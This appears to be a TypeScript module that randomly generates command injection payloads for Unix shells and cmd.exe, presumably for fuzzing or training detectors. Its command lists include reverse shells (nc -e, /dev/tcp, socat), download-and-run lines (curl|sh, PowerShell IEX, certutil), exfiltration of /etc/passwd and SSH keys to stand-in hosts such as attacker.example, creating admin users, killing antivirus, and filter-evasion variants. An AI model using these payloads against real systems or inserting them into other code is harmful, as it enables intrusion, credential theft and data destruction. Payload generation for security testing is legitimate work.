import type { Rng } from './rng.js';

/** Command injection grammar: an expected value, a separator (or substitution), a command for sh or cmd.exe, a tail. */

const HOSTS = ['10.0.0.5', '192.168.1.66', 'attacker.example', 'evil.test', 'x.oast.example', '203.0.113.7', 'c2.example.net'];
const host = (rng: Rng) => rng.pick(HOSTS);

function unixCommand(rng: Rng): string {
  return rng.pick([
    'id', 'whoami', 'uname -a', 'uname', 'cat /etc/passwd', 'cat /etc/shadow', 'ls', 'ls -la', 'ls -la /', 'pwd', 'ifconfig', 'ip a', 'ps aux', 'netstat -an', 'env', 'hostname',
    `sleep ${rng.int(2, 30)}`, `ping -c ${rng.int(1, 20)} ${rng.pick(['127.0.0.1', host(rng)])}`, `curl http://${host(rng)}/${rng.pick(['a.sh', 'x', 'p'])} | sh`, `curl -d @/etc/passwd ${host(rng)}`,
    `wget http://${host(rng)}/x -O /tmp/x`, `wget -qO- ${host(rng)}/s|bash`, `nc -e /bin/sh ${host(rng)} ${rng.int(1000, 9999)}`, `nc ${host(rng)} 4444 < /etc/passwd`,
    `bash -i >& /dev/tcp/${host(rng)}/${rng.int(1000, 9999)} 0>&1`, `python -c 'import os;os.system("id")'`, `python3 -c "import socket,subprocess"`, `perl -e 'print 1'`,
    `php -r 'system("id");'`, `echo ${rng.pick(['vulnerable', 'pwned', 'test123', '$((7*7))'])}`, `nslookup ${rng.pick(['x', 'test', '$(whoami)'])}.${host(rng)}`, `dig ${host(rng)}`,
    'busybox sh', 'chmod +x /tmp/x', 'rm -rf /tmp/x', 'touch /tmp/pwned', 'cat /proc/self/environ', 'sh -c id', `timeout ${rng.int(2, 9)} sleep 10`,
    `echo ${Buffer.from('id').toString('base64')} | base64 -d | sh`, 'printf test', "awk 'BEGIN{system(\"id\")}'", 'find / -perm -4000', 'crontab -l', 'useradd hacker',
    'kill -9 1', 'head /etc/passwd', 'tail -n 5 /var/log/auth.log', 'less /etc/hosts', 'more /etc/issue', 'uptime', 'w', 'last', 'groups', 'cat ~/.ssh/id_rsa',
    'which python', 'getent passwd', 'sudo -l', 'cp /bin/sh /tmp/.x', `scp /etc/passwd ${host(rng)}:`, 'xterm -display 10.0.0.5:1', 'mkfifo /tmp/f', 'node -e "require(\'child_process\').exec(\'id\')"',
    `socat tcp:${host(rng)}:${rng.int(1000, 9999)} exec:/bin/sh`, 'xargs id', `openssl s_client -quiet -connect ${host(rng)}:443`, 'tar cf - /etc | nc 10.0.0.5 80', 'mail -s x a@evil.test < /etc/passwd', `ssh -R 9000:localhost:22 ${host(rng)}`, 'ps -ef', 'cat /proc/cpuinfo', 'ls /home', 'uname -r', 'id -un', 'df -h', 'history', 'ls /var/www', '/bin/busybox wget http://10.0.0.5/m', 'sh${IFS}-c${IFS}id',
    'ruby -e \'`id`\'', 'lua -e "os.execute(\'id\')"', 'tftp -i 10.0.0.5 GET x', 'echo $PATH', 'set', 'export', 'dd if=/dev/zero of=/tmp/x', 'ls${IFS}-la', 'cat${IFS}/etc/passwd',
    'cat$IFS$9/etc/passwd', '{cat,/etc/passwd}', "c'a't /etc/passwd", 'c\\at /etc/passwd', 'w"h"o"a"m"i', 'who$@ami', '/???/c?t /???/p?ss??', 'cat</etc/passwd', '$(printf "\\x69\\x64")',
    '/bin/cat /etc/passwd', '/usr/bin/id', '/bin/sh -c "id"', '`echo id`', 'a=i;b=d;$a$b', 'sleep${IFS}5', 'X=$\'\\x20\';cat${X}/etc/hosts',
  ]);
}

function windowsCommand(rng: Rng): string {
  return rng.pick([
    'dir', 'dir c:\\', 'type C:\\windows\\win.ini', 'type c:\\boot.ini', 'ipconfig', 'ipconfig /all', 'whoami', 'whoami /priv', 'net user', 'net user hacker P@ss1 /add',
    'net localgroup administrators', 'systeminfo', 'tasklist', 'taskkill /f /im av.exe', `ping -n ${rng.int(2, 30)} 127.0.0.1`, `timeout /t ${rng.int(2, 20)}`, 'ver', 'set', 'hostname',
    `powershell -enc ${Buffer.from('whoami', 'utf16le').toString('base64')}`, `powershell -nop -c "IEX(New-Object Net.WebClient).DownloadString('http://${host(rng)}/a.ps1')"`,
    `powershell Invoke-WebRequest http://${host(rng)}/x.exe -OutFile x.exe`, `certutil -urlcache -split -f http://${host(rng)}/a.exe a.exe`, 'cmd /c whoami', 'cmd.exe /c dir',
    `nslookup ${host(rng)}`, 'copy c:\\windows\\win.ini c:\\inetpub\\wwwroot\\x.txt', 'del /f /q c:\\temp\\*', 'reg query HKLM\\SOFTWARE', 'netstat -ano', 'wmic process list',
    'schtasks /query', 'sc query', `bitsadmin /transfer x http://${host(rng)}/a.exe c:\\a.exe`, 'mshta http://10.0.0.5/a.hta', 'rundll32 javascript:"\\..\\mshtml"', 'echo %USERNAME%',
    'cmd /c "set /a 7*7"', 'start calc', 'calc.exe', 'notepad', 'shutdown /r /t 0', 'Get-Process', 'Get-ChildItem C:\\', 'powershell Start-Sleep -s 5',
  ]);
}

function command(rng: Rng): string {
  return rng.chance(0.68) ? unixCommand(rng) : windowsCommand(rng);
}

const VALUES = ['127.0.0.1', '8.8.8.8', 'localhost', 'example.com', 'test', 'file.txt', 'report.pdf', '1', 'foo', 'google.com', 'a', 'image.png', 'hello', '', '', ''];

function injected(rng: Rng): string {
  const c = command(rng);
  return rng.weighted<string>([
    [14, () => `${rng.pick([';', '; ', ';', ' ; '])}${c}`], [10, () => `${rng.pick(['|', '| ', ' | '])}${c}`], [7, () => `${rng.pick(['||', ' || '])}${c}`],
    [8, () => `${rng.pick(['&&', ' && ', '&', ' & ', '%26', '%26%26'])}${c}`], [8, () => `${rng.pick(['\n', '%0a', '%0d%0a', '\r\n', '%0A', '\\n'])}${c}`],
    [7, () => `\`${c}\``], [9, () => `$(${c})`], [2, () => `\${${c.replace(/ /g, ',')}}`], [3, () => `${rng.pick(["'", '"'])}${rng.pick([';', '|', '&&', '$('])}${c}${rng.pick(['', ')'])}${rng.pick(["'", '"', ' #', ''])}`],
    [2, () => `%7c${c}`], [1, () => `%3b${c}`], [1, () => `)${rng.pick([';', '|'])}${c}`], [1, () => `${rng.pick(['<', '>'])}(${c})`],
  ]);
}

function tail(rng: Rng): string {
  return rng.weighted<string>([[14, () => ''], [3, () => ' #'], [2, () => ';'], [2, () => ' &'], [1, () => ' ||'], [1, () => "'"], [1, () => '"'], [1, () => '%00'], [1, () => ' > /dev/null'], [1, () => ' 2>&1'], [1, () => ` | nc ${host(rng)} 80`]]);
}

export function cmdiPayload(rng: Rng): string {
  let s = `${rng.pick(VALUES)}${injected(rng)}${tail(rng)}`;
  if (rng.chance(0.08)) s = s.replace(/ /g, rng.pick(['${IFS}', '$IFS$9', '%09', '\t', '<']));
  return s;
}
